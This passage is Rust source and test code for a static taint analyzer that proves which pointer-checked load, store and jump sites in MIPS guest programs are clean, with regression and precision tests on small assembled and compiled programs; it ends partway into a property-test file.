                    value: a.value.add(&imm, lay),
                },
                IAluOp::Slti | IAluOp::Sltiu => {
                    st.untaint(rs);
                    let value = a.value.map(lay, |v| match op {
                        IAluOp::Slti => u32::from((v as i32) < (d.imm as i32)),
                        _ => u32::from(v < d.imm),
                    });
                    AbsVal {
                        taint: Taint::Clean,
                        value,
                    }
                }
                IAluOp::Andi | IAluOp::Ori | IAluOp::Xori => AbsVal {
                    taint: a.taint,
                    value: a.value.map(lay, |v| match op {
                        IAluOp::Andi => v & d.imm,
                        IAluOp::Ori => v | d.imm,
                        _ => v ^ d.imm,
                    }),
                },
            };
            st.set(rt, out);
            Flow::Fall
        }
        Instr::Lui { rt, .. } => {
            st.set(rt, AbsVal::clean_const(d.imm));
            Flow::Fall
        }
        Instr::Load {
            width,
            signed,
            rt,
            base,
            ..
        } => {
            let b = st.get(base);
            // Check refinement: under the pointer-taintedness policy (the
            // only configuration the proven set is installed for), a run
            // survives this instruction only if the base register was
            // clean — the dynamic check alerts otherwise. Post-states may
            // therefore assume it clean, like the compare untaint.
            // Extraction grades the site from the *pre*-state, so the lint
            // still sees the unrefined taint.
            st.untaint(base);
            let addr = b.value.add(&Value::constant(d.imm), lay);
            st.set(rt, load(ctx, st, &addr, width, signed));
            Flow::Fall
        }
        Instr::Store {
            width, rt, base, ..
        } => {
            let v = st.get(rt);
            let b = st.get(base);
            // Check refinement (see the Load arm).
            st.untaint(base);
            let addr = b.value.add(&Value::constant(d.imm), lay);
            store(ctx, st, &addr, width, &v, fx);
            Flow::Fall
        }
        Instr::Branch { cond, rs, rt, .. } => {
            let known = match (st.get(rs).value.singleton(), st.get(rt).value.singleton()) {
                (Some(a), Some(b)) => Some(a == b),
                _ if rs == rt => Some(true),
                _ => None,
            };
            st.untaint(rs);
            st.untaint(rt);
            let eq = matches!(cond, BranchCond::Eq);
            let (taken, fall) = match known {
                Some(same) => (same == eq, same != eq),
                None => (true, true),
            };
            Flow::Cond {
                target: d.target,
                taken,
                fall,
            }
        }
        Instr::BranchZ { cond, rs, .. } => {
            let known = st.get(rs).value.singleton().map(|v| {
                let v = v as i32;
                match cond {
                    BranchZCond::Lez => v <= 0,
                    BranchZCond::Gtz => v > 0,
                    BranchZCond::Ltz => v < 0,
                    BranchZCond::Gez => v >= 0,
                }
            });
            st.untaint(rs);
            let (taken, fall) = match known {
                Some(t) => (t, !t),
                None => (true, true),
            };
            Flow::Cond {
                target: d.target,
                taken,
                fall,
            }
        }
        Instr::Jump { link, .. } => {
            if !ctx.in_text(d.target) {
                return Flow::Halt;
            }
            if link {
                Flow::Call {
                    targets: vec![d.target],
                    link: Reg::RA,
                }
            } else {
                Flow::Jump(d.target)
            }
        }
        Instr::JumpReg { rs } => {
            let v = st.get(rs);
            // Check refinement (see the Load arm) — the post-state flowing
            // to every successor has a clean jump register.
            st.untaint(rs);
            match v.value {
                Value::RetAddr(0) => Flow::Return,
                _ => resolve_indirect(ctx, &v.value),
            }
        }
        Instr::JumpAndLinkReg { rd, rs } => {
            let v = st.get(rs);
            st.untaint(rs);
            match v.value {
                // `jalr` through the invocation's own return address: a
                // (degenerate) structural return that also links.
                Value::RetAddr(0) => {
                    st.set(rd, AbsVal::clean_const(pc + 4));
                    Flow::Return
                }
                Value::Consts(ref ts) => {
                    let targets: Vec<u32> =
                        ts.iter().copied().filter(|&t| ctx.in_text(t)).collect();
                    if targets.is_empty() {
                        Flow::Halt
                    } else {
                        Flow::Call { targets, link: rd }
                    }
                }
                _ => Flow::Anywhere,
            }
        }
        Instr::Syscall => syscall(ctx, st),
        Instr::Break { .. } => Flow::Halt,
    }
}

/// Successors of a register-indirect jump: exact for constant sets
/// (dropping non-text targets — the machine cannot execute them); a
/// widened target fans out to **every** instruction address, including the
/// exit stub's. A computed jump can land mid-block at a pc that appears in
/// no static successor heuristic, so anything narrower would leave the
/// landing point's in-state unjoined and could unsoundly prove downstream
/// sites clean (see the module doc).
fn resolve_indirect(ctx: &Ctx, v: &Value) -> Flow {
    match v.consts() {
        Some(ts) => Flow::Targets(ts.iter().copied().filter(|&t| ctx.in_text(t)).collect()),
        None => Flow::Anywhere,
    }
}

/// Constant shift evaluation.
fn shift(op: ShiftOp, v: u32, s: u32) -> u32 {
    match op {
        ShiftOp::Sll => v << s,
        ShiftOp::Srl => v >> s,
        ShiftOp::Sra => ((v as i32) >> s) as u32,
    }
}

/// Abstract memory load through `addr`.
fn load(ctx: &Ctx, st: &State, addr: &Value, width: MemWidth, signed: bool) -> AbsVal {
    let lay = &ctx.layout;
    match addr {
        Value::Consts(addrs) => {
            let mut out: Option<AbsVal> = None;
            for &a in addrs {
                let slot = st.read_slot(ctx, a);
                let one = if width == MemWidth::Word && a.is_multiple_of(4) {
                    slot
                } else {
                    // Sub-word (or misaligned, which the CPU faults on):
                    // keep the word's taint bound, extract a constant when
                    // the slot value and alignment allow it.
                    let value = if width == MemWidth::Word {
                        Value::Unknown
                    } else {
                        slot.value
                            .map(lay, |w| extract_subword(w, a, width, signed))
                    };
                    AbsVal {
                        taint: slot.taint,
                        value,
                    }
                };
                out = Some(match out {
                    None => one,
                    Some(acc) => acc.join(&one, lay),
                });
            }
            out.unwrap_or_else(|| AbsVal::opaque(Taint::Unknown))
        }
        // The argv/envp pointer arrays hold clean words pointing at the
        // (tainted) string bytes; `Unknown` rather than `Clean` because the
        // band also holds the string bytes themselves (no elision there).
        Value::InRegion(Region::ArgPtrs) => AbsVal {
            taint: Taint::Unknown,
            value: Value::InRegion(Region::ArgStrings),
        },
        Value::InRegion(r) => AbsVal::opaque(st.region_taint(*r)),
        // A load through a completely widened pointer *could* read the
        // tainted argv band, so the result is never Clean; beyond that it
        // carries whatever taint the path has written anywhere (see
        // [`State::anywhere_taint`]): `Unknown` until tainted input has
        // actually landed in memory, `Tainted` after — the heap-unlink and
        // `%n`-target dereferences the dynamic detector alerts on surface
        // as findings through exactly this rule. An opaque return address
        // or saved frame pointer used as a data pointer is treated the
        // same way (the concrete address is only known per call site).
        Value::Unknown | Value::RetAddr(_) | Value::FrameBase(_) => {
            AbsVal::opaque(st.anywhere_taint())
        }
    }
}

/// Little-endian sub-word extraction from a known word.
fn extract_subword(word: u32, addr: u32, width: MemWidth, signed: bool) -> u32 {
    match width {
        MemWidth::Byte => {
            let b = (word >> (8 * (addr & 3))) & 0xff;
            if signed {
                b as u8 as i8 as i32 as u32
            } else {
                b
            }
        }
        MemWidth::Half => {
            let h = (word >> (8 * (addr & 2))) & 0xffff;
            if signed {
                h as u16 as i16 as i32 as u32
            } else {
                h
            }
        }
        MemWidth::Word => word,
    }
}

/// Abstract memory store of `v` through `addr`.
fn store(ctx: &Ctx, st: &mut State, addr: &Value, width: MemWidth, v: &AbsVal, fx: &mut Effects) {
    match addr {
        Value::Consts(addrs) => {
            for &a in addrs {
                if ctx.in_text(a & !3) {
                    fx.smc_pages.insert(a / PAGE_SIZE);
                }
            }
            if let (&[a], MemWidth::Word) = (addrs.as_slice(), width) {
                if a.is_multiple_of(4) {
                    st.write_slot(ctx, a, v.clone());
                    return;
                }
            }
            // Weak update: join into each possibly-written word; sub-word
            // stores lose the word's value but keep a taint bound.
            let stored = AbsVal {
                taint: v.taint,
                value: if width == MemWidth::Word {
                    v.value.clone()
                } else {
                    Value::Unknown
                },
            };
            for &a in addrs {
                st.weak_write_slot(ctx, a, &stored);
            }
        }
        Value::InRegion(r) => st.havoc_region(ctx, *r, v.taint),
        Value::Unknown | Value::RetAddr(_) | Value::FrameBase(_) => st.havoc_all(v.taint),
    }
}

/// Abstract syscall: the kernel writes only `$v0` (clean) back to the
/// register file; `read`/`recv` additionally taint the destination buffer,
/// `brk` returns a heap pointer, `exit` never returns.
fn syscall(ctx: &Ctx, st: &mut State) -> Flow {
    let v0 = st.get(Reg::V0);
    let Some(num) = v0.value.singleton() else {
        // Unknown syscall number: assume the worst (an unknown read
        // destination) and keep going.
        st.havoc_all(Taint::Tainted);
        st.set(Reg::V0, AbsVal::opaque(Taint::Clean));
        return Flow::Fall;
    };
    match Sys::from_number(num) {
        Some(Sys::Exit) => Flow::Halt,
        Some(Sys::Read | Sys::Recv) => {
            let buf = st.get(Reg::A1);
            let len = st.get(Reg::A2);
            seed_buffer(ctx, st, &buf.value, &len.value);
            st.set(Reg::V0, AbsVal::opaque(Taint::Clean));
            Flow::Fall
        }
        Some(Sys::Brk) => {
            st.set(
                Reg::V0,
                AbsVal {
                    taint: Taint::Clean,
                    value: Value::InRegion(Region::Heap),
                },
            );
            Flow::Fall
        }
        _ => {
            // Remaining syscalls (write/open/close/socket/…) read guest
            // memory but never write it.
            st.set(Reg::V0, AbsVal::opaque(Taint::Clean));
            Flow::Fall
        }
    }
}

/// Taints the destination buffer of a `read`/`recv`: precisely when base
/// and length are known and small, by region havoc otherwise. This is the
/// static mirror of the kernel's tainted delivery (paper §4.4).
///
/// The kernel writes `[base, base + n)` byte-wise, so the delivery can
/// cross region boundaries (a buffer in the last data page can spill
/// tainted bytes into the heap). The imprecise paths therefore havoc
/// *every* region the possible span reaches — not just the base's region —
/// with the span end taken as the address-space top when the length is
/// statically unbounded.
fn seed_buffer(ctx: &Ctx, st: &mut State, buf: &Value, len: &Value) {
    let lay = ctx.layout;
    // Largest statically known delivery length, if any.
    let max_len = len.consts().and_then(|ls| ls.iter().copied().max());
    let havoc_span = |st: &mut State, lo: u32, hi: u32| {
        for r in lay.span_regions(lo, hi) {
            st.havoc_region(ctx, r, Taint::Tainted);
        }
    };
    match buf {
        Value::Consts(bases) => match max_len {
            Some(n) if n <= MAX_SEED_BYTES => {
                let tainted = AbsVal::opaque(Taint::Tainted);
                for &base in bases {
                    let mut a = base & !3;
                    while a < base + n {
                        st.weak_write_slot(ctx, a, &tainted);
                        a += 4;
                    }
                }
            }
            Some(n) => {
                for &base in bases {
                    havoc_span(st, base, base.saturating_add(n - 1));
                }
            }
            None => {
                for &base in bases {
                    havoc_span(st, base, u32::MAX);
                }
            }
        },
        Value::InRegion(r) => {
            let (lo, hi) = lay.region_span(*r).unwrap_or((0, u32::MAX));
            let hi = match max_len {
                Some(n) => hi.saturating_add(n.saturating_sub(1)),
                None => u32::MAX,
            };
            havoc_span(st, lo, hi);
        }
        Value::Unknown | Value::RetAddr(_) | Value::FrameBase(_) => st.havoc_all(Taint::Tainted),
    }
}

/// A pointer-checked site and the strongest taint its address register can
/// carry there.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Site {
    /// Instruction address.
    pub pc: u32,
    /// The instruction (for rendering).
    pub instr: Instr,
    /// Whether this is a load/store or a register jump.
    pub is_jump: bool,
    /// Taint bound of the address register at this site, joined over all
    /// abstract visits.
    pub taint: Taint,
}

/// Sees `(pc, insn, pre-state)` for every instruction walked — the
/// extraction pass uses it to grade pointer-checked sites and collect
/// call edges.
pub type WalkRecorder<'a> = &'a mut dyn FnMut(u32, &DecodedInsn, &State);

/// The address range `[lo, hi)` of the function a block walk runs inside;
/// control leaving it becomes an interprocedural edge.
#[derive(Debug, Clone, Copy)]
pub struct FnView {
    /// The function's entry address.
    pub lo: u32,
    /// One past the function's last instruction (the next function entry,
    /// or the end of text + stub).
    pub hi: u32,
}

impl FnView {
    /// Whether `pc` lies inside the function's range.
    #[must_use]
    pub fn contains(&self, pc: u32) -> bool {
        (self.lo..self.hi).contains(&pc)
    }
}

/// One typed out-edge of a basic block.
pub enum BlockEdge {
    /// Intra-function edge. The target may be a new mid-block pc — the
    /// per-function fixpoint splits the containing block dynamically.
    Local(u32, State),
    /// A call discovered at `site` (return site `site + 4`): the callee
    /// context is this state translated into callee frame coordinates with
    /// `link := RetAddr(0)`, and the callee's exit summary (translated
    /// back) feeds the return site.
    Call {
        /// The calling instruction's address.
        site: u32,
        /// Resolved callee entry (may be mid-function: the driver then
        /// promotes it to a new function entry).
        callee: u32,
        /// Register receiving the return address.
        link: Reg,
        /// Caller state at the call.
        state: State,
    },
    /// Control transfers out of the function without pushing a frame
    /// (cross-function jump/branch/fall-through or constant `jr`): the
    /// target function continues on this invocation's caller chain, and
    /// its exits become this function's exits.
    Tail {
        /// The transferring instruction's address.
        site: u32,
        /// Target address (promoted to a function entry if mid-function).
        target: u32,
        /// State at the transfer.
        state: State,
    },
    /// Structural function return (`jr` through `RetAddr(0)`).
    Return(State),
}

/// Everything one block walk produces.
pub struct BlockWalk {
    /// Typed out-edges.
    pub edges: Vec<BlockEdge>,
    /// Out-state of a widened indirect jump terminating the block: control
    /// can land at *any* instruction address, so the driver joins this
    /// into its global accumulator rather than into one edge per pc.
    pub anywhere: Option<State>,
    /// Instructions transferred.
    pub steps: usize,
}

/// Walks one basic block from `leader` with the given in-state, stopping
/// at the next local leader in `leaders` or at any control transfer, and
/// returning the typed out-edges.
pub fn walk_block(
    ctx: &Ctx,
    leaders: &BTreeSet<u32>,
    view: FnView,
    leader: u32,
    mut st: State,
    fx: &mut Effects,
    mut recorder: Option<WalkRecorder<'_>>,
) -> BlockWalk {
    let mut pc = leader;
    let mut edges = Vec::new();
    let mut anywhere = None;
    let mut steps = 0usize;
    // An in-range target is a local edge; anything else leaves the
    // function on the same logical frame (a tail transfer).
    let classify = |site: u32, target: u32, state: State| -> BlockEdge {
        if view.contains(target) {
            BlockEdge::Local(target, state)
        } else {
            BlockEdge::Tail {
                site,
                target,
                state,
            }
        }
    };
    while let Some(word) = ctx.word_at(pc) {
        if pc >= view.hi {
            // Fell across the function boundary (the boundary pc itself is
            // handled below, so this only guards pathological views).
            break;
        }
        let Ok(d) = DecodedInsn::predecode(pc, word) else {
            break;
        };
        if let Some(rec) = recorder.as_mut() {
            rec(pc, &d, &st);
        }
        let flow = transfer(ctx, &mut st, pc, &d, fx);
        steps += 1;
        match flow {
            Flow::Fall => {
                let next = pc + 4;
                if !view.contains(next) {
                    if ctx.in_text(next) {
                        edges.push(BlockEdge::Tail {
                            site: pc,
                            target: next,
                            state: st,
                        });
                    }
                    break;
                }
                if leaders.contains(&next) {
                    edges.push(BlockEdge::Local(next, st));
                    break;
                }
                pc = next;
            }
            Flow::Cond {
                target,
                taken,
                fall,
            } => {
                if taken && ctx.in_text(target) {
                    edges.push(classify(pc, target, st.clone()));
                }
                if fall && ctx.in_text(pc + 4) {
                    edges.push(classify(pc, pc + 4, st));
                }
                break;
            }
            Flow::Jump(target) => {
                edges.push(classify(pc, target, st));
                break;
            }
            Flow::Call { targets, link } => {
                for &callee in &targets {
                    edges.push(BlockEdge::Call {
                        site: pc,
                        callee,
                        link,
                        state: st.clone(),
                    });
                }
                break;
            }
            Flow::Return => {
                edges.push(BlockEdge::Return(st));
                break;
            }
            Flow::Targets(targets) => {
                for t in targets {
                    edges.push(classify(pc, t, st.clone()));
                }
                break;
            }
            Flow::Anywhere => {
                anywhere = Some(st);
                break;
            }
            Flow::Halt => break,
        }
    }
    BlockWalk {
        edges,
        anywhere,
        steps,
    }
}

/// Grades the pointer-checked site at `pc` (if the instruction is one)
/// from its pre-state, joining into `sites` — shared by the extraction
/// replay in `summary.rs`.
pub fn grade_site(sites: &mut BTreeMap<u32, Site>, pc: u32, d: &DecodedInsn, pre_state: &State) {
    let graded = match d.instr {
        Instr::Load { base, .. } | Instr::Store { base, .. } => {
            Some((pre_state.get(base).taint, false))
        }
        Instr::JumpReg { rs } => Some((pre_state.get(rs).taint, true)),
        Instr::JumpAndLinkReg { rs, .. } => Some((pre_state.get(rs).taint, true)),
        _ => None,
    };
    if let Some((taint, is_jump)) = graded {
        sites
            .entry(pc)
            .and_modify(|s| s.taint = s.taint.join(taint))
            .or_insert(Site {
                pc,
                instr: d.instr,
                is_jump,
                taint,
            });
    }
}
