//! CFG-recovery edge cases: block splitting on backward branches into the
//! middle of an already-discovered block, `jr`-terminated blocks, targets
//! that only become known *during* the fixpoint (computed `jalr`), and
//! self-modifying-code pages (excluded from the proven set wholesale).

use ptaint_analyze::analyze;
use ptaint_asm::assemble;

#[test]
fn backward_branch_into_a_block_middle_splits_it() {
    // `mid` sits in the middle of the straight-line run from `main`; the
    // backward `bne` makes it a leader, so the run must be split and the
    // loop body re-walked from `mid` with the joined state.
    let image = assemble(
        "main:   addiu $8, $0, 0
                 addiu $9, $0, 3
                 addiu $10, $29, -4
mid:             sw    $8, 0($10)
                 addiu $8, $8, 1
                 bne   $8, $9, mid
                 jr    $31",
    )
    .unwrap();
    let a = analyze(&image);
    assert!(a.degraded.is_none(), "{:?}", a.degraded);
    assert_eq!(a.findings, vec![], "clean loop must not be flagged");
    // The split produces at least: [main..mid), [mid..bne], [jr].
    assert!(a.stats.blocks >= 3, "no split happened: {:?}", a.stats);
    let mid = image.symbol("mid").unwrap();
    assert!(
        a.proven.contains(&mid),
        "the store at the split point must stay proven"
    );
    assert!(a.proven.contains(&(mid + 12)), "the return must be proven");
    assert_eq!(a.stats.proven_sites, 2, "{:?}", a.stats);
}

#[test]
fn jr_terminated_blocks_close_cleanly() {
    // Two functions, both ending in `jr $31`, called with `jal`: every
    // block terminator is a register jump, and both must resolve (the
    // callee through its linked return address, `main` through the stub).
    let image = assemble(
        "main:   jal   f
                 jr    $31
f:               addiu $2, $0, 9
                 jr    $31",
    )
    .unwrap();
    let a = analyze(&image);
    assert!(a.degraded.is_none(), "{:?}", a.degraded);
    assert_eq!(a.stats.register_jump_sites, 2);
    assert_eq!(a.stats.proven_sites, 2, "{:?}", a.stats);
    assert_eq!(a.findings, vec![]);
}

#[test]
fn computed_jalr_target_splits_a_block_mid_fixpoint() {
    // The call target `helper+4` is computed with address arithmetic, so
    // the pre-scan cannot see it: `helper`'s block is discovered whole,
    // then split when the fixpoint resolves the `jalr` constant into its
    // middle. The skipped first instruction must still belong to the
    // fall-through walk from `helper` itself (reached via nothing here,
    // but its bytes are shared with the split-off tail).
    let image = assemble(
        "main:   lui   $8, %hi(helper)
                 ori   $8, $8, %lo(helper)
                 addiu $8, $8, 4
                 jalr  $8
                 jr    $31
helper:          addiu $9, $0, 7
                 addiu $10, $0, 1
                 jr    $31",
    )
    .unwrap();
    let a = analyze(&image);
    assert!(a.degraded.is_none(), "{:?}", a.degraded);
    let main = image.symbol("main").unwrap();
    let helper = image.symbol("helper").unwrap();
    // The jalr (main+12), the return jr (helper+8), and main's own jr.
    assert!(
        a.proven.contains(&(main + 12)),
        "jalr not proven: {:?}",
        a.proven
    );
    assert!(a.proven.contains(&(helper + 8)), "helper's jr not proven");
    assert!(a.proven.contains(&(main + 16)), "main's jr not proven");
    assert_eq!(a.stats.proven_sites, 3, "{:?}", a.stats);
    assert_eq!(a.findings, vec![]);
}

#[test]
fn stores_into_text_mark_the_page_and_void_its_proofs() {
    // A statically visible store into the text segment: the whole page is
    // self-modifying as far as the analyzer is concerned, and nothing on
    // it may be handed to the runtime as proven (the code could differ by
    // the time it executes).
    let image = assemble(
        "main:   lui   $8, %hi(patch)
                 ori   $8, $8, %lo(patch)
                 lui   $9, 0
                 sw    $9, 0($8)
patch:           addiu $2, $0, 5
                 jr    $31",
    )
    .unwrap();
    let a = analyze(&image);
    assert!(
        !a.smc_pages.is_empty(),
        "text store did not mark an SMC page: {:?}",
        a.stats
    );
    // The program is a single page, so the proven set must be empty even
    // though every site's address register is provably clean.
    assert_eq!(
        a.proven.len(),
        0,
        "proven sites on an SMC page: {:?}",
        a.proven
    );
    assert_eq!(
        a.findings,
        vec![],
        "clean-pointer SMC is not a taint finding"
    );
}
