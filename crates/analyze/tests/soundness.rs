//! Soundness regressions for the proven-clean set (the elision input).
//! Each test encodes a scenario where an earlier analyzer build proved a
//! site clean that a real execution can reach with a tainted pointer; the
//! fixed analyzer must leave the site unproven (and flag it).

use ptaint_analyze::{analyze, SiteKind};
use ptaint_asm::assemble;

/// A widened (statically unresolved) `jr` can land at *any* instruction
/// address — including a mid-block pc that is neither a return site nor a
/// recognized function entry. The old fallback set missed `mid` here: the
/// jump's tainted state was never joined there, the fall-through path from
/// `skip` re-cleans `$9`, and the load was proven clean and elided even
/// though the computed jump reaches it with `$9` still tainted.
#[test]
fn widened_register_jump_reaches_mid_block_sites() {
    let image = assemble(
        "        .data
buf:    .word 0
        .text
main:   addiu $4, $0, 0
        lui   $5, %hi(buf)
        ori   $5, $5, %lo(buf)
        addiu $6, $0, 4
        addiu $2, $0, 3
        syscall                  # read(0, buf, 4): taints buf
        lui   $8, %hi(buf)
        ori   $8, $8, %lo(buf)
        lw    $9, 0($8)          # $9 <- tainted word
        lui   $8, %hi(skip)
        ori   $8, $8, %lo(skip)
        addiu $8, $8, 8          # skip+8 = mid: invisible to the pre-scan
        addu  $8, $8, $2         # mix in read's opaque return: widens $8
        jr    $8                 # statically unresolved computed jump
skip:   addiu $9, $29, -4       # fall-through path re-cleans $9
        nop
mid:    lw    $12, 0($9)
        jr    $31",
    )
    .unwrap();
    let a = analyze(&image);
    assert!(a.degraded.is_none(), "{:?}", a.degraded);
    let mid = image.symbol("mid").unwrap();
    assert!(
        !a.proven.contains(&mid),
        "load reachable by a widened jr with a tainted pointer was proven"
    );
    assert!(
        a.findings
            .iter()
            .any(|f| f.pc == mid && f.kind == SiteKind::Load),
        "tainted path into `mid` not flagged: {:?}",
        a.findings
    );
}

/// A `read` whose length exceeds the precise-seeding cap is modeled by
/// havoc — but the kernel copies byte-wise, so the delivery can cross a
/// region boundary. Here a 128 KiB read into the (one-page) data segment
/// spills into the heap; the old single-region havoc left the heap's
/// static summary clean, so the dereference of a heap word was proven and
/// elided while a real run delivers attacker bytes there.
#[test]
fn oversized_read_taints_every_region_the_span_crosses() {
    let image = assemble(
        "        .data
buf:    .word 0
        .text
main:   addiu $4, $0, 0
        lui   $5, %hi(buf)
        ori   $5, $5, %lo(buf)
        lui   $6, 2              # len = 0x20000: data page + heap spill
        addiu $2, $0, 3
        syscall                  # read(0, buf, 0x20000)
        addiu $4, $0, 0
        addiu $2, $0, 9
        syscall                  # brk(0): $2 <- heap pointer
        lw    $8, 0($2)          # heap word: tainted by the spill
deref:  lw    $9, 0($8)
        jr    $31",
    )
    .unwrap();
    let a = analyze(&image);
    assert!(a.degraded.is_none(), "{:?}", a.degraded);
    let deref = image.symbol("deref").unwrap();
    assert!(
        !a.proven.contains(&deref),
        "dereference of a heap word inside the read span was proven"
    );
    assert!(
        a.findings
            .iter()
            .any(|f| f.pc == deref && f.kind == SiteKind::Load),
        "heap spill not flagged: {:?}",
        a.findings
    );
}

/// A `read` with a statically unknown length can deliver to everything
/// above the buffer base; the stack summary must go tainted, so a value
/// reloaded from the stack after the call no longer proves a register
/// jump.
#[test]
fn unknown_length_read_havocs_through_the_stack() {
    let image = assemble(
        "        .data
buf:    .word 0
        .text
main:   addiu $10, $29, -8
        sw    $31, 0($10)        # spill the (clean) return address
        addiu $2, $0, 4
        syscall                  # write(...): $2 <- opaque length
        addiu $4, $0, 0
        lui   $5, %hi(buf)
        ori   $5, $5, %lo(buf)
        addu  $6, $2, $0         # statically unknown length
        addiu $2, $0, 3
        syscall                  # read(0, buf, ?)
        lw    $11, 0($10)        # reload: stack summary is tainted now
ret:    jr    $11",
    )
    .unwrap();
    let a = analyze(&image);
    assert!(a.degraded.is_none(), "{:?}", a.degraded);
    let ret = image.symbol("ret").unwrap();
    assert!(
        !a.proven.contains(&ret),
        "register jump through a possibly-overwritten stack slot was proven"
    );
}

/// Self-recursion with a tainted pointer riding down the call chain: the
/// recursive context folds caller frames into the stack havoc summary
/// (`StackFold::All`), which must not launder the *register*-carried taint
/// — the terminal dereference stays flagged, and the fixpoint converges
/// without degrading.
#[test]
fn recursive_tainted_pointer_descent_is_flagged() {
    let image = ptaint_guest::build(
        r#"int walk(char *p, int n) {
            if (n == 0) return p[0];
            return walk(p, n - 1);
        }
        int main() {
            char buf[8];
            read(0, buf, 4);
            return walk((char *)(buf[0]), 3);
        }"#,
    )
    .unwrap();
    let a = analyze(&image);
    assert!(a.degraded.is_none(), "{:?}", a.degraded);
    assert!(
        a.findings
            .iter()
            .any(|f| f.function == "walk" && f.kind == SiteKind::Load),
        "tainted-pointer deref inside the recursion not flagged: {:?}",
        a.findings
    );
}

/// The mutually recursive variant: taint descends `f -> g -> f`, an SCC of
/// two functions. Both terminal derefs must be flagged — the intra-SCC
/// context fold applies to every edge of the component, not just
/// self-calls.
#[test]
fn mutually_recursive_taint_descent_is_flagged() {
    let image = ptaint_guest::build(
        r#"int g(char *p, int n);
        int f(char *p, int n) {
            if (n == 0) return p[0];
            return g(p, n - 1);
        }
        int g(char *p, int n) {
            if (n == 0) return p[1];
            return f(p, n - 1);
        }
        int main() {
            char buf[8];
            read(0, buf, 4);
            return f((char *)(buf[0]), 3);
        }"#,
    )
    .unwrap();
    let a = analyze(&image);
    assert!(a.degraded.is_none(), "{:?}", a.degraded);
    for func in ["f", "g"] {
        assert!(
            a.findings
                .iter()
                .any(|f| f.function == func && f.kind == SiteKind::Load),
            "tainted deref inside `{func}` not flagged: {:?}",
            a.findings
        );
    }
}

/// Input-free recursion: folding recursive frames must cost no findings
/// and keep the entry prologue proven — the eager fold trades slot-granular
/// for region-granular state, and with nothing tainted both grade Clean.
#[test]
fn clean_recursion_stays_proven_and_converges() {
    let image = ptaint_guest::build(
        r#"int fac(int n) {
            if (n < 2) return 1;
            return n * fac(n - 1);
        }
        int main() { return fac(6) & 0x7f; }"#,
    )
    .unwrap();
    let a = analyze(&image);
    assert!(a.degraded.is_none(), "{:?}", a.degraded);
    assert_eq!(
        a.stats.flagged_sites, 0,
        "spurious findings on input-free recursion: {:?}",
        a.findings
    );
    let main_addr = image.symbol("main").unwrap();
    assert!(
        a.proven.contains(&(main_addr + 4)),
        "main's prologue spill should stay proven around clean recursion"
    );
}
