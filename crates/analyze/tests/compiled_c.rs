//! Precision regression tests on realistic compiled-C images.
//!
//! These pin the analyzer's behaviour on whole programs (mini-C compiler
//! output plus the bundled libc), where the interesting failure mode is a
//! precision *collapse*: one over-approximation (a havocked `$sp`, a
//! tainted widened load) cascading through the jr-fallback edges until no
//! site grades `Clean` any more. The unit tests in `src/` cover the
//! transfer function; these cover the fixpoint at scale.

use ptaint_analyze::analyze;

/// An all-clean loop over a stack array: nothing here ever touches input,
/// so the analyzer must prove a substantial majority of the image's check
/// sites (the bundled libc is linked in whole, so "all" is not attainable
/// — flooded wrappers around `read()` stay Unknown).
#[test]
fn clean_array_loop_proves_most_of_the_image() {
    let image = ptaint_guest::build(
        r#"int main() {
            int i; int s = 0;
            int a[32];
            for (i = 0; i < 32; i++) a[i] = i;
            for (i = 0; i < 32; i++) s += a[i];
            return s & 0x7f;
        }"#,
    )
    .unwrap();
    let an = analyze(&image);

    let sites = an.stats.load_store_sites + an.stats.register_jump_sites;
    assert!(
        an.proven.len() * 2 > sites,
        "precision collapse: only {} of {} sites proven",
        an.proven.len(),
        sites
    );
    // No input is ever read, so nothing is provably tainted.
    assert_eq!(
        an.stats.flagged_sites, 0,
        "spurious findings: {:#?}",
        an.findings
    );

    // Every function prologue spills $ra/$fp through $sp; those stores are
    // the bread and butter of elision and must grade Clean at `main`.
    let main_addr = image.symbol("main").unwrap();
    assert!(
        an.proven.contains(&(main_addr + 4)),
        "main's prologue `sw $31,..($29)` should be proven clean"
    );
}

/// The interprocedural precision floor on the paper's Experiment-1 guest.
///
/// PR 3's monolithic fixpoint proved 1074 of 1685 sites on this image;
/// the summary-based analyzer must stay *strictly* above that and hold
/// the ≥1300 target (it currently proves 1509 — the golden in
/// `tests/golden/analyze/exp1.txt` pins the exact figure). A drop below
/// the floor means call sites went back to havocking.
#[test]
fn exp1_precision_floor_holds() {
    let image = ptaint_guest::build(ptaint_guest::apps::synthetic::EXP1_SOURCE).unwrap();
    let an = analyze(&image);
    assert!(an.degraded.is_none(), "{:?}", an.degraded);
    assert!(
        an.proven.len() > 1074,
        "precision fell to the pre-summary floor: {} proven",
        an.proven.len()
    );
    assert!(
        an.proven.len() >= 1300,
        "precision below the summary-analysis target: {} proven (want >= 1300)",
        an.proven.len()
    );
    assert_eq!(
        an.stats.unresolved_sites, 0,
        "exp1 should fully resolve: {} sites graded Unknown",
        an.stats.unresolved_sites
    );
}

/// A program that actually reads input: the read destination becomes
/// tainted, but the clean prologue/epilogue machinery must stay proven —
/// taint from the buffer must not wash out the whole image.
#[test]
fn reading_input_keeps_unrelated_sites_proven() {
    let image = ptaint_guest::build(
        r#"int main() {
            char buf[64];
            int n = read(0, buf, 63);
            return n & 0x7f;
        }"#,
    )
    .unwrap();
    let an = analyze(&image);

    // The syscall seeds taint; precision may drop but must not collapse.
    assert!(
        an.proven.len() * 4 > an.stats.load_store_sites + an.stats.register_jump_sites,
        "taint seeding washed out the image: only {} sites proven",
        an.proven.len()
    );
    let main_addr = image.symbol("main").unwrap();
    assert!(
        an.proven.contains(&(main_addr + 4)),
        "main's prologue spill should stay proven after a read()"
    );
}
