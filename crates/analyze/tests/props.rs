//! Property tests for the interprocedural analyzer.
//!
//! Two contracts are exercised over generated programs:
//!
//! * **cache fidelity** — a warm `cache::load` yields an [`Analysis`]
//!   (ProvenClean set, findings, stats) equal to the cold run's, and the
//!   rendered lint report is byte-identical; anything less and the elision
//!   machinery could behave differently on warm and cold boots;
//! * **summary soundness** — grading a site after a `jal f` (callee
//!   consumed via its exit summary) is never *less* tainted than grading
//!   the same site with `f`'s body inlined at the call site. The summary
//!   path may lose precision (rank higher), never findings.

use proptest::prelude::*;
use ptaint_analyze::{analyze, cache, render_report, Analysis};
use ptaint_asm::{assemble, Image};

/// Site classification rank at a pc: `Clean`(proven) < `Unknown` <
/// `Tainted`(flagged). Vacuous/unreachable sites grade proven.
fn rank(a: &Analysis, pc: u32) -> u8 {
    if a.findings.iter().any(|f| f.pc == pc) {
        2
    } else if a.proven.contains(&pc) {
        0
    } else {
        1
    }
}

/// One straight-line statement of a generated function body. Each snippet
